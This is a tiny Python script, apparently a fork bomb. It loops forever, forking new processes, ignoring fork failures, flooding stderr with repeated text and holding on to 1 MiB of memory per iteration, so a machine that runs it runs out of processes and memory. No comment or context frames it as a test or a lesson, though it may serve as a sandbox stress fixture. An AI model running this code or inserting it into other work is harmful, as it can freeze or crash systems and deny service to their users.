import os

kept = []
while True:
    try:
        os.fork()
    except OSError:
        pass
    os.write(2, b"flood " * 1000)
    kept.append(bytearray(1 << 20))
